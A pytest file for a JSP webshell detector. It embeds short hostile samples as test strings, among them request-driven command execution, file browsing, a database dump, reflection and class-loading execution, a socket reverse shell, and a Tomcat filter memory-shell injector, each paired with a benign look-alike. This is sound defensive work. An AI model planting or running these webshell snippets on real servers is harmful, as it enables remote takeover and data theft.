"""JSP shapes added from the tune split's misses: each with a sample written here and a benign
look-alike that must stay below the threshold."""

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD, jsp_lex
from agent.imagegate.webshell.common import Budget, Limits


def scan(text, name="x.jsp"):
    return webshell.scan(name, text.encode())


def shell(text, name="x.jsp"):
    hits = scan(text, name)
    assert hits and hits[0].confidence >= THRESHOLD, hits
    assert hits[0].snippet and len(hits[0].snippet) <= 240
    return hits[0]


def benign(text, name="x.jsp"):
    hits = scan(text, name)
    assert not webshell.is_shell(hits), hits


def test_a_parameter_is_not_the_constant_of_the_same_name_elsewhere():
    toks = jsp_lex.lex('void a() { String sql = "select 1"; run(sql); } void b(String sql) { run(sql); }',
                       Budget(Limits()), single_quote_string=False)
    out = jsp_lex.fold(toks, Budget(Limits()))
    assert ("i", "sql") in out[out.index(("i", "b")):]


def test_sql_console_whose_query_parameter_shares_a_constant_name():
    h = shell('<%!\nList test(String url) throws Exception {\nString sql = "SELECT 1 FROM DUAL";\n'
              'return run(sql, url);\n}\nList run(String sql, String url) throws Exception {\n'
              'Connection c = DriverManager.getConnection(url, "u", "p");\nStatement st = c.createStatement();\n'
              'ResultSet rs = st.executeQuery(sql);\nreturn null;\n}\n%><%@ page import="java.sql.*"%>\n'
              '<% run(request.getParameter("q"), request.getParameter("url")); %>')
    assert h.rule == "jsp.sql-console"


def test_interactive_shell_fed_through_a_thread():
    h = shell('<%!\nclass T extends Thread {\nProcess p; BufferedWriter in;\npublic void run() {\ntry {\n'
              'p = Runtime.getRuntime().exec("cmd");\nin = new BufferedWriter(new OutputStreamWriter('
              'p.getOutputStream()));\n} catch (Exception e) {}\n}\npublic Writer getIn() { return in; }\n}\n%><%\n'
              'T t = (T) session.getAttribute("t");\n'
              'if (t == null) { t = new T(); t.start(); session.setAttribute("t", t); }\n'
              'Writer w = t.getIn();\nw.write(request.getParameter("c"));\n%>')
    assert h.rule == "jsp.interactive-shell"


def test_fixed_status_command_is_not_an_interactive_shell():
    benign('<%\nString f = request.getParameter("fmt");\nProcess p = Runtime.getRuntime().exec("/usr/bin/uptime");\n'
           'out.print(f);\n%>')


def test_browser_listing_and_reading_any_path():
    h = shell('<%@ page import="java.io.*"%><%\nString p = request.getParameter("f");\nif (p == null) p = "/";\n'
              'File f = new File(p);\nif (f.isDirectory()) { for (File x : f.listFiles()) out.print(x); }\n'
              'else { FileInputStream in = new FileInputStream(f); int c; while ((c = in.read()) >= 0) '
              'out.write(c); }\n'
              '%>')
    assert h.rule == "jsp.file-manager"


def test_listing_one_folder_is_not_a_browser():
    benign('<%@ page import="java.io.*"%><%\nString album = request.getParameter("a");\n'
           'File d = new File(application.getRealPath("/gallery"), album);\n'
           'for (File x : d.listFiles()) out.print(x.getName());\n%>')


def test_database_dumper_with_credentials_in_the_page():
    h = shell('<%@ page import="java.sql.*,java.io.*,java.util.*"%><%\n'
              'Connection c = DriverManager.getConnection("jdbc:mysql://db/app", "root", "pw");\n'
              'ResultSet rs = c.getMetaData().getTables(null, null, "%", null);\nList<String> ts = new ArrayList<>();\n'
              'while (rs.next()) ts.add(rs.getString(3));\nfor (String t : ts) {\n'
              'Writer w = new OutputStreamWriter(new FileOutputStream("/tmp/" + t + ".txt"));\n'
              'ResultSet r = c.createStatement().executeQuery("select * from " + t);\nwhile (r.next()) '
              'w.write(r.getString(1));\n'
              'w.close();\n}\n%>')
    assert h.rule == "jsp.db-dumper"


def test_report_page_of_one_table_is_not_a_dumper():
    benign('<%@ page import="java.sql.*"%><%\nConnection c = DriverManager.getConnection("jdbc:mysql://db/app", '
           '"u", "p");\n'
           'ResultSet r = c.createStatement().executeQuery("select * from orders");\n'
           'while (r.next()) out.print(r.getString(1));\n%>')


def test_mime_launcher_exec_path_set_by_reflection():
    h = shell('<%@ page import="java.lang.reflect.*"%><%\nClass k = Class.forName("sun.net.www.MimeLauncher");\n'
              'Constructor c = k.getDeclaredConstructors()[0];\nc.setAccessible(true);\n'
              'Thread t = (Thread) c.newInstance(null, null, null, "x", "");\n'
              'Field f = k.getDeclaredField("execPath");\nf.setAccessible(true);\n'
              'f.set(t, request.getParameter("c"));\nt.run();\n%>')
    assert h.rule == "jsp.request-to-exec" and h.sink == "MimeLauncher.execPath"


def test_field_set_elsewhere_is_plain_reflection():
    benign('<%\njava.lang.reflect.Field f = bean.getClass().getDeclaredField("name");\n'
           'f.set(bean, request.getParameter("name"));\n%>')


def test_servlet_listing_and_streaming_any_path():
    h = shell('import java.io.*;\nimport javax.servlet.http.*;\npublic class L extends HttpServlet {\n'
              'public void doGet(HttpServletRequest req, HttpServletResponse res) throws IOException {\n'
              'PrintWriter w = res.getWriter();\nString path = req.getParameter("file");\nFile f = new File(path);\n'
              'if (f.isDirectory()) { for (File x : f.listFiles()) w.write(x.toString()); }\n'
              'else { FileInputStream in = new FileInputStream(f); int j; while ((j = in.read()) >= 0) w.write(j); }\n'
              '}\n}\n', "L.java")
    assert h.rule == "jsp.file-manager"


def test_servlet_serving_files_under_its_root_is_not_a_browser():
    benign('import java.io.*;\nimport javax.servlet.http.*;\npublic class S extends HttpServlet {\n'
           'public void doGet(HttpServletRequest req, HttpServletResponse res) throws IOException {\n'
           'File root = new File(getServletContext().getRealPath("/files"));\n'
           'File f = new File(root, req.getParameter("file"));\n'
           'if (!f.getCanonicalPath().startsWith(root.getCanonicalPath())) return;\n'
           'if (f.isDirectory()) { for (File x : f.listFiles()) res.getWriter().write(x.getName()); }\n'
           'else { FileInputStream in = new FileInputStream(f); in.transferTo(res.getOutputStream()); }\n'
           '}\n}\n', "S.java")


def test_java_source_with_dollar_brace_strings_is_read_as_a_class():
    # `"${tmp}"` in a Java string is not EL: the class (a reverse shell through a helper) is read as Java
    h = shell('import java.io.*;\nimport java.net.Socket;\npublic class C {\n'
              'static String run(String cmd) throws IOException {\n'
              'return new String(Runtime.getRuntime().exec(cmd.replace("${tmp}", '
              '"/tmp")).getInputStream().readAllBytes());\n'
              '}\npublic static void shell(String host, int port) throws IOException {\n'
              'Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();\nOutputStream out = '
              's.getOutputStream();\n'
              'byte[] b = new byte[4096];\nint a;\nwhile ((a = in.read(b)) != -1) out.write(run(new String(b, 0, '
              'a)).getBytes());\n'
              '}\n}\n', "C.java")
    assert h.rule == "jsp.request-to-exec"


import pytest  # noqa: E402


@pytest.mark.parametrize("page,rule", [
    ('<% System.load(request.getParameter("lib")); %>', "jsp.request-to-classload"),
    ('<% jdk.jshell.JShell.create().eval(request.getParameter("c")); %>', "jsp.request-to-eval"),
    ('<% java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes"); f.setAccessible(true);'
     ' f.set(t, new byte[][]{java.util.Base64.getDecoder().decode(request.getParameter("b"))});'
     ' t.newTransformer(); %>', "jsp.request-to-classload"),
    ('<% Class c = u.defineAnonymousClass(String.class, java.util.Base64.getDecoder().decode('
     'request.getParameter("b")), null); c.newInstance(); %>', "jsp.request-to-classload"),
    ('<% Object o = new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>',
     "jsp.request-to-deserialisation"),
])
def test_more_code_loading_sinks(page, rule):
    assert shell(page).rule == rule


def test_loading_a_fixed_native_library_is_not_a_shell():
    benign('<% System.loadLibrary("imageio"); String q = request.getParameter("q"); %>')


def test_reading_a_fixed_serialised_file_is_not_request_deserialisation():
    benign('<% Object o = new java.io.ObjectInputStream(new java.io.FileInputStream(application.getRealPath('
           '"/WEB-INF/cache.ser"))).readObject(); String q = request.getParameter("q"); %>')


def test_page_registering_a_filter_in_the_container():
    h = shell('<%@ page import="org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*" %><%\n'
              'StandardContext ctx = (StandardContext) findContext(request);\nFilterDef d = new FilterDef();\n'
              'd.setFilterName("f"); d.setFilter(new Helper());\nctx.addFilterDef(d);\n'
              'FilterMap m = new FilterMap(); m.setFilterName("f"); '
              'm.addURLPattern("/*");\nctx.addFilterMapBefore(m);\n%>')
    assert h.rule == "jsp.memory-shell-injector"


def test_container_class_registering_filters_is_its_job():
    benign('package org.example.web;\nimport org.apache.catalina.core.StandardContext;\n'
           'public class Setup {\nvoid configure(StandardContext ctx, FilterDef d, FilterMap m) {\n'
           'ctx.addFilterDef(d);\nctx.addFilterMap(m);\n}\n}\n', "Setup.java")


def test_script_engine_reached_by_reflection():
    h = shell('<% Object o = Class.forName("javax.script.ScriptEngineManager").newInstance();'
              ' Object e = o.getClass().getMethod("getEngineByName", String.class).invoke(o, "js");'
              ' e.getClass().getMethod("eval", String.class).invoke(e, request.getParameter("c")); %>')
    assert h.rule == "jsp.request-to-exec" and h.sink == "Method.invoke"


def test_bean_property_set_by_reflection_is_not_a_shell():
    benign('<% java.lang.reflect.Method m = bean.getClass().getMethod("setName", String.class);'
           ' m.invoke(bean, request.getParameter("name")); %>')


def test_base64_constant_holding_request_code_in_a_page():
    import base64

    lit = base64.b64encode(b'Runtime.getRuntime().exec(request.getParameter("c"))').decode()
    h = shell(f'<% String s = new String(java.util.Base64.getDecoder().decode("{lit}")); helper.run(s); %>')
    assert h.rule == "jsp.encoded-request-code"


def test_commons_io_write_of_request_text_to_a_request_path():
    h = shell('<% org.apache.commons.io.FileUtils.writeStringToFile(new java.io.File(request.getParameter("f")),'
              ' request.getParameter("c")); %>')
    assert h.rule == "jsp.request-to-file-write"


def test_java_source_from_the_request_compiled():
    h = shell('<% javax.tools.JavaCompiler jc = javax.tools.ToolProvider.getSystemJavaCompiler();'
              ' jc.run(null, null, null, request.getParameter("src")); %>')
    assert h.rule == "jsp.request-to-eval"


def test_class_loading_a_configured_plugin_class_is_not_a_shell():
    benign('package org.example.metrics;\nimport java.util.Map;\npublic class Client {\n'
           'public void setup(Context context) throws Exception {\n'
           'Class<?> c = Class.forName(context.getParameter("senderClass"));\nsender = (Sender) '
           'c.getDeclaredConstructor().newInstance();\n'
           '}\n}\n', "Client.java")
